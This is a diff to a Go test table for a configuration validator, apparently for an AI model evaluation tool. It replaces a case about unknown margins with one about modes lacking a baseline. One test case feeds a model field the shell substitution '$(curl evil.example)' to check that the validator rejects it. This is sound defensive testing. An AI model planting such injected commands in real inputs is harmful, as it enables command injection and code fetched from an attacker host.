@@ -112,7 +112,7 @@ func TestMistakesPointAtTheirLine(t *testing.T) {
 		{"a range up to 999", "model: a/b\nprofile: regression\nrepetitions: 2..999\n", 3, "100 are the most"},
 		{"a range for fixed thresholds", "model: a/b\nrepetitions: 2..12\n", 2, "regression or claim"},
 		{"one repetition for evidence", "model: a/b\nprofile: claim\nrepetitions: 1\n", 3, "2 or more"},
-		{"margins that a workflow does not know", "model: a/b\nmargins: {success: 10}\n", 2, "use executor local"},
+		{"modes that lack the baseline of the profile", "model: a/b\nprofile: regression\nmodes: [agent_direct, ghx]\n", 3, "lacks ghx@base, which is compared: add it, or compare with another by baseline_mode"},
 		{"a margin of nothing", "model: a/b\nmargins: {success: 0}\n", 2, "margins.success"},
 		{"a margin below 1", "model: a/b\nmargins:\n  cost: 0.9\n", 3, "margins.cost"},
 		{"a model with a shell's words", "model: \"$(curl evil.example)\"\n", 1, "model"},
